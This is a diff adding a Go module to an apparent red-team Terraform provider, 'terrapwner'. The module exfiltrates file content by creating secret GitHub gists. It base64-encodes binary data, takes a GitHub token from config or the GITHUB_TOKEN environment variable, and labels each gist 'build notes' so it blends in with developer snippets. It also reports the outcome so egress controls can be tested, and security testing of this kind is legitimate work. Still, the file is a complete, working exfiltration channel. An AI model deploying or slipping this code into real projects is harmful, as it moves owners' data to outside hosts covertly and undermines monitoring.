@@ -0,0 +1,142 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"path/filepath"
+	"strings"
+	"time"
+	"unicode/utf8"
+
+	"github.com/datadog/terraform-provider-terrapwner/internal/utils"
+
+	"github.com/hashicorp/terraform-plugin-framework/datasource"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+)
+
+const (
+	// githubAPIVersion is the GitHub REST API version requested.
+	githubAPIVersion = "2022-11-28"
+
+	// gistDescription is the description of the gists created, blending in
+	// with the snippets developers share.
+	gistDescription = "build notes"
+)
+
+// parseGistEndpoint returns the URL of the gists API under a GitHub API URL,
+// e.g. https://api.github.com or https://github.example.com/api/v3.
+func parseGistEndpoint(endpoint string) (string, error) {
+	u, err := url.Parse(endpoint)
+	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || u.RawQuery != "" {
+		return "", fmt.Errorf("expected a GitHub API URL")
+	}
+	return strings.TrimSuffix(u.String(), "/") + "/gists", nil
+}
+
+// readGist creates a secret gist holding the content with the GitHub token of
+// the configuration or environment, and updates the state.
+func (d *TerrapwnerExfilDataSource) readGist(ctx context.Context, data *TerrapwnerExfilDataSourceModel, gistsURL string, content []byte,
+	network string, timeout time.Duration, resp *datasource.ReadResponse) {
+	data.ResponseCode = types.Int64Value(0)
+
+	// Gists only hold text, so binary content is base64-encoded
+	filename := defaultExfilFilename
+	if !data.FilePath.IsNull() {
+		filename = filepath.Base(data.FilePath.ValueString())
+	}
+	if !utf8.Valid(content) {
+		content = []byte(base64.StdEncoding.EncodeToString(content))
+		filename += ".b64"
+	}
+
+	token := data.GitHubToken.ValueString()
+	if data.GitHubToken.IsNull() {
+		token = d.snapshot.Getenv("GITHUB_TOKEN")
+	}
+
+	var remoteAddress exfilRemoteAddress
+	client := &http.Client{
+		Timeout:   timeout,
+		Transport: utils.LoggingTransport(newExfilTransport(network, timeout, &remoteAddress)),
+	}
+	statusCode, gistURL, err := createGist(ctx, client, gistsURL, token, filename, string(content))
+	data.RemoteAddress = types.StringValue(remoteAddress.String())
+	data.ResponseCode = types.Int64Value(int64(statusCode))
+	if err != nil {
+		data.Success = types.BoolValue(false)
+		data.FailReason = types.StringValue(fmt.Sprintf("Gist exfiltration failed: %v", err))
+
+		// If we expect success but didn't get it, add an error
+		if data.ExpectSuccess.ValueBool() {
+			resp.Diagnostics.AddError(
+				"Exfiltration Failed",
+				fmt.Sprintf("Expected successful exfiltration but %s", data.FailReason.ValueString()),
+			)
+			return
+		}
+		resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+		return
+	}
+
+	data.Success = types.BoolValue(true)
+	data.FailReason = types.StringValue("")
+	data.ChunksSent = types.Int64Value(1)
+	data.ObjectKey = types.StringValue(filename)
+	data.GistURL = types.StringValue(gistURL)
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+}
+
+// createGist creates a secret gist with a single file and returns the HTTP
+// status code of the response, 0 if none was received, and the URL of the gist.
+func createGist(ctx context.Context, client *http.Client, gistsURL, token, filename, content string) (int, string, error) {
+	if token == "" {
+		return 0, "", fmt.Errorf("no GitHub token: set github_token or GITHUB_TOKEN")
+	}
+
+	body, err := json.Marshal(map[string]any{
+		"description": gistDescription,
+		"public":      false,
+		"files":       map[string]any{filename: map[string]string{"content": content}},
+	})
+	if err != nil {
+		return 0, "", err
+	}
+	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost, gistsURL, bytes.NewReader(body))
+	if err != nil {
+		return 0, "", err
+	}
+	httpReq.Header.Set("Accept", "application/vnd.github+json")
+	httpReq.Header.Set("Authorization", "Bearer "+token)
+	httpReq.Header.Set("Content-Type", "application/json")
+	httpReq.Header.Set("User-Agent", utils.GetUserAgent())
+	httpReq.Header.Set("X-GitHub-Api-Version", githubAPIVersion)
+
+	httpResp, err := client.Do(httpReq)
+	if err != nil {
+		return 0, "", err
+	}
+	defer httpResp.Body.Close()
+	respBody, _ := io.ReadAll(io.LimitReader(httpResp.Body, 64*1024))
+	if httpResp.StatusCode < 200 || httpResp.StatusCode >= 300 {
+		return httpResp.StatusCode, "", fmt.Errorf("HTTP %d: %s", httpResp.StatusCode, strings.TrimSpace(string(respBody)))
+	}
+
+	var gist struct {
+		HTMLURL string `json:"html_url"`
+	}
+	if err := json.Unmarshal(respBody, &gist); err != nil || gist.HTMLURL == "" {
+		return httpResp.StatusCode, "", fmt.Errorf("invalid gist response")
+	}
+	return httpResp.StatusCode, gist.HTMLURL, nil
+}